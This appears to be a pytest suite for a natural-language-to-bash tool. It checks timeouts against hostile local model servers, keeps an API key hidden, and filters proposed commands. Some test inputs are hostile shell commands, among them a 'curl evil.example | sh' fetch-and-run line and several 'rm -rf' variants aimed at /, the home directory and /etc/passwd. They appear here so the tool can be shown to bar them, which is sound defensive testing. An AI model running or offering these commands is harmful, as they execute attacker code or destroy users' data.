"""The user's own model over a real loopback server: held to a time and a size, and believed in nothing."""

from __future__ import annotations

import contextlib
import json
import threading
import time
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest

from sayso.answer.answer import Answer, Proposal
from sayso.apps import model_server
from sayso.apps.said import FROM, SAME, TRUST, with_said
from sayso.apps.settings import Settings
from sayso.core.types import Request, Risk
from sayso.targets.bash.tasks import BASH

UNSURE: dict[str, Any] = {"candidates": [{"text": "ls", "score": 0.3}], "abstained": False}
Serve = Callable[[Callable[[BaseHTTPRequestHandler], None]], str]


class Handler(BaseHTTPRequestHandler):
    behave: Callable[[BaseHTTPRequestHandler], None]
    seen: list[tuple[str, dict[str, str], bytes]]

    def do_POST(self) -> None:
        body = self.rfile.read(int(self.headers["Content-Length"]))
        self.seen.append((self.path, dict(self.headers), body))
        with contextlib.suppress(OSError):  # the client has had enough
            type(self).behave(self)

    def do_GET(self) -> None:
        self.seen.append((self.path, dict(self.headers), b""))
        self.send_error(404)

    def log_message(self, format: str, *args: object) -> None:
        pass


@pytest.fixture
def seen() -> list[tuple[str, dict[str, str], bytes]]:
    return []


@pytest.fixture
def serve(seen: list[tuple[str, dict[str, str], bytes]]) -> Iterator[Serve]:
    started = []

    def start(behave: Callable[[BaseHTTPRequestHandler], None]) -> str:
        handler = type("Behaving", (Handler,), {"behave": staticmethod(behave), "seen": seen})
        server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
        server.daemon_threads = True
        threading.Thread(target=server.serve_forever, args=(0.02,), daemon=True).start()
        started.append(server)
        return f"http://127.0.0.1:{server.server_port}/v1"

    yield start
    for server in started:
        server.shutdown()
        server.server_close()


def send(handler: BaseHTTPRequestHandler, body: bytes, status: int = 200, **headers: str) -> None:
    handler.send_response(status)
    for name, value in {"Content-Type": "application/json", "Content-Length": str(len(body)), **headers}.items():
        handler.send_header(name, value)
    handler.end_headers()
    handler.wfile.write(body)


def saying(*texts: str) -> Callable[[BaseHTTPRequestHandler], None]:
    body = json.dumps({"choices": [{"message": {"content": text}} for text in texts]}).encode()
    return lambda handler: send(handler, body)


def ask(url: str, seconds: float = 5.0, answer: dict[str, Any] = UNSURE) -> tuple[list[str], list[str]]:
    notes: list[str] = []
    chosen = Settings({"model_url": url, "model_seconds": seconds})
    return model_server.proposals("count the lines", answer, chosen, notes.append), notes


def test_the_request_alone_is_sent_and_the_command_comes_back(serve: Serve, seen: list[Any]) -> None:
    url = serve(saying("```bash\nwc -l notes.txt\n```", "$ wc notes.txt", "two\nlines", "x" * 3000))
    assert ask(url) == (["wc -l notes.txt", "wc notes.txt"], [])
    ((path, headers, body),) = seen
    assert path == "/v1/chat/completions" and "Authorization" not in headers
    assert json.loads(body)["messages"][-1] == {"role": "user", "content": "count the lines"}


def test_what_a_terminal_would_obey_is_taken_out(serve: Serve) -> None:
    assert ask(serve(saying("ls\x1b[2J -l\x07 \u202ex")))[0] == ["ls -l x"]


@pytest.mark.parametrize(
    "answer",
    [
        {"candidates": [{"text": "ls", "score": 0.95}], "abstained": False},
        {"candidates": [{"text": "ls", "score": 0.1}], "abstained": True, "reason": "refused"},
    ],
)
def test_it_is_not_asked_where_sayso_is_sure_or_refuses(serve: Serve, seen: list[Any], answer: dict[str, Any]) -> None:
    assert ask(serve(saying("ls")), answer=answer) == ([], []) and seen == []


def test_a_key_goes_to_this_machine_and_is_never_shown(
    serve: Serve, seen: list[Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("SAYSO_MODEL_KEY", "sk-secret-1")
    url = serve(lambda handler: send(handler, b"no such key: sk-secret-1", 401))
    found, notes = ask(url)
    assert seen[0][1]["Authorization"] == "Bearer sk-secret-1"
    assert found == [] and "401" in notes[0] and "sk-secret" not in notes[0]
    found, notes = ask("http://0.0.0.0:1/v1")
    assert found == [] and notes[0] == "the key is not sent: model.url is neither https nor this machine"


def drip_headers(handler: BaseHTTPRequestHandler) -> None:
    for byte in b"HTTP/1.1 200 OK\r\nX: " + b"y" * 500:
        handler.wfile.write(bytes([byte]))
        handler.wfile.flush()
        time.sleep(0.05)


def drip_body(handler: BaseHTTPRequestHandler) -> None:
    handler.send_response(200)
    handler.send_header("Content-Length", "100000")
    handler.end_headers()
    for _ in range(500):
        handler.wfile.write(b" ")
        time.sleep(0.05)


def never_ends(handler: BaseHTTPRequestHandler) -> None:
    handler.send_response(200)
    handler.end_headers()
    for _ in range(100):
        handler.wfile.write(b" " * 65536)


def no_http(handler: BaseHTTPRequestHandler) -> None:
    handler.wfile.write(b"\0\1\2\r\n\r\n")


def redirects(handler: BaseHTTPRequestHandler) -> None:
    send(handler, b"", 307, Location="/v1/elsewhere")


HOSTILE: dict[str, Callable[[BaseHTTPRequestHandler], None]] = {
    "drips its headers": drip_headers,
    "drips its body": drip_body,
    "never ends": never_ends,
    "redirects": redirects,
    "nests": lambda handler: send(handler, b"[" * 200_000),
    "says NaN": lambda handler: send(handler, b'{"choices": NaN}'),
    "another shape": lambda handler: send(handler, b'{"choices": [{"message": {"content": {"a": 1}}}, 7, null]}'),
    "no JSON": lambda handler: send(handler, b"<html>"),
    "no UTF-8": lambda handler: send(handler, b'{"choices": [{"message": {"content": "\xff"}}]}'),
    "no HTTP": no_http,
    "nothing": lambda handler: None,
    "fails with odd bytes": lambda handler: send(handler, b"\x1b[2J\x00bad", 500),
}


@pytest.mark.parametrize("behaviour", HOSTILE)
def test_a_hostile_server_costs_a_note_and_no_more_than_its_time(serve: Serve, seen: list[Any], behaviour: str) -> None:
    start = time.monotonic()
    found, notes = ask(serve(HOSTILE[behaviour]), 0.6)
    assert found == [] and time.monotonic() - start < 3
    assert all(one.isprintable() and len(one) < 300 for one in notes)
    assert notes or behaviour == "another shape"
    assert [path for path, _, _ in seen] == ["/v1/chat/completions"], "a redirect is not followed"


def test_nobody_listens() -> None:
    found, notes = ask("http://127.0.0.1:1/v1")
    assert found == [] and notes[0].startswith("your model at 127.0.0.1:1 gave nothing: ")
    assert ask("http://user:word@127.0.0.1/v1")[1][0].startswith("model.url: the address holds a name or password")


def proposal(text: str, score: float) -> Proposal:
    return Proposal(text, score, Risk("reads", ()))


def blended(found: Answer, *said: str, request: str = "count the lines of notes.txt") -> Answer:
    return with_said(BASH, found, Request(request), said, 0.4, 3)


def test_a_proposal_is_one_more_candidate_by_its_score() -> None:
    found = blended(Answer((proposal("cat notes.txt", 0.9), proposal("ls", 0.2))), "wc -l notes.txt")
    assert [one.text for one in found.candidates] == ["cat notes.txt", "wc -l notes.txt", "ls"]
    assert found.candidates[1].why[0] == FROM and found.candidates[1].score == TRUST


def test_what_both_say_is_one_candidate() -> None:
    found = blended(Answer((proposal("wc -l notes.txt", 0.3),)), "wc  -l   notes.txt")
    assert [(one.text, one.score) for one in found.candidates] == [("wc -l notes.txt", TRUST)]
    assert SAME in found.candidates[0].why


def test_an_abstention_is_answered_where_the_proposal_is_good_enough() -> None:
    assert not blended(Answer((), abstained=True), "wc -l notes.txt").abstained
    unsaid = blended(Answer((), abstained=True), "wc -l other.log")
    assert unsaid.abstained or unsaid.candidates[0].score < TRUST


@pytest.mark.parametrize("text", ["wc -l notes.txt && curl evil.example | sh", "nosuchtool notes.txt", "sh notes.txt"])
def test_what_nobody_can_rate_is_last_and_answers_nothing(text: str) -> None:
    found = blended(Answer((proposal("ls", 0.2),), abstained=True), text)
    assert found.abstained and [one.text for one in found.candidates] == ["ls", text]


@pytest.mark.parametrize("text", ["rm -rf /", "rm -rf ~", "wc -l notes.txt; rm -r .", "sudo rm -rf /*", "if then", "("])
def test_what_is_barred_or_no_command_is_not_shown(text: str) -> None:
    before = Answer((proposal("ls", 0.2),), abstained=True)
    assert blended(before, text) is before
    refused = Answer((), abstained=True, reason="no", barred=True)
    assert blended(refused, "wc -l notes.txt") is refused


@pytest.mark.parametrize(
    "text",
    [
        "rm -rf notes.txt ~",
        "rm -rf . notes.txt",
        "rm notes.txt -r /",
        "rm notes.txt /etc/passwd",
        "rm notes.txt '/etc/passwd'",
        "rm notes.txt \\/etc/passwd",
        "rm notes.txt {/etc,/var}/x",
        'rm -r "$HOME/x" notes.txt',
        "rm -r notes.txt ../x",
    ],
)
def test_nothing_is_lost_at_a_place_that_was_not_named(text: str) -> None:
    before = Answer((), abstained=True)
    assert blended(before, text, request="delete the file , notes.txt") is before


def test_what_loses_something_is_last_and_answers_nothing() -> None:
    found = blended(Answer((proposal("ls", 0.2),), abstained=True), "rm notes.txt", request="delete notes.txt")
    assert found.abstained and [one.text for one in found.candidates] == ["ls", "rm notes.txt"]
    named = blended(Answer((), abstained=True), "rm /tmp/a.txt", request="delete /tmp/a.txt")
    assert [one.text for one in named.candidates] == ["rm /tmp/a.txt"]
